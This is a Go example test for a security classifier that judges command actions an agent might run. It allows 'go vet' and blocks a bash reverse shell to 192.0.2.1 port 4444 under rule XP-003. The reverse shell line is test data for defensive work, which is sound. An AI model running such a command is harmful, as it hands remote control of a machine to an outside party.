package classify_test

import (
	"context"
	"fmt"

	"github.com/shieldcli/shield/pkg/action"
	"github.com/shieldcli/shield/pkg/analysis"
	"github.com/shieldcli/shield/pkg/classify"
	"github.com/shieldcli/shield/pkg/effect"
	"github.com/shieldcli/shield/pkg/shell"
)

func Example() {
	an := analysis.Analyzer{ShellAnalyzer: shell.Analyze, FileAnalyzer: shell.AnalyzeWrittenFile, DefaultExecutionContext: effect.PathContext{CWD: "/work/app", Home: "/home/me", WorkspaceRoots: []string{"/work/app"}}}
	k := classify.New(classify.Options{Home: "/home/me", WorkspaceRoots: []string{"/work/app"}})
	for _, command := range []string{"go vet ./...", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"} {
		a, err := action.Parse(fmt.Appendf(nil, `{"type":"execute_command","payload":{"command":%q}}`, command))
		if err != nil {
			fmt.Println(err)
			return
		}
		v, err := k.Judge(context.Background(), an.AnalyzeAction(a))
		fmt.Println(v.Decision, v.Rule, err)
	}
	// Output:
	// ALLOW  <nil>
	// BLOCK XP-003 <nil>
}
